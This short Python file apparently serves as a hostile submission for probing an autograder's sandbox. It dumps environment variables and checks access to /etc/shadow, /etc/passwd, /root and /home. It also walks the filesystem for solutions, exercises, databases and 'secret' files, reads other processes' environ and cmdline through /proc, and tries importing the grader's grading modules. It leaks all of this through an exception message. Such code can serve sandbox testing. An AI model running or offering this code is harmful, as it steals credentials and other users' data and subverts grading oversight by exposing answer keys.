# does: reads all it can reach: solutions, exercises, neighbors, secrets, other processes, and tells it as an error
# says: Exception
import os

found = [str(dict(os.environ))]
for place in ["@COURSE@", "@ROOT@", "/etc/shadow", "/etc/passwd", "/root", "/home"]:
    found.append(f"{place} {os.path.exists(place)} {os.access(place, os.R_OK)}")
for folder, folders, files in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/usr", "/proc", "/sys", "/dev")]
    folders[:] = [f for f in folders if f not in ("site-packages", "__pycache__", "lib-dynload", "lib")]
    for name in files:
        if name.endswith((".ipynb", ".db", "secret")) or "exercises" in folder or "solutions" in folder:
            found.append(os.path.join(folder, name))
for number in os.listdir("/proc"):
    for name in ("environ", "cmdline", "root/etc/shadow", "cwd", "fd"):
        try:
            path = f"/proc/{number}/{name}"
            found.append(f"{path}: {os.listdir(path) if name in ('cwd', 'fd') else open(path).read()[:300]}")
        except OSError:
            pass
try:
    import autograde.exercises

    found.append("exercises can be imported")
except ImportError:
    pass
try:
    import autograde.judging.grading

    found.append("grading can be imported")
except ImportError:
    pass
telling = [line for line in found if "/proc/" not in line or "@" in line or "SECRET" in line]
raise Exception(" ".join(telling)[:1400])
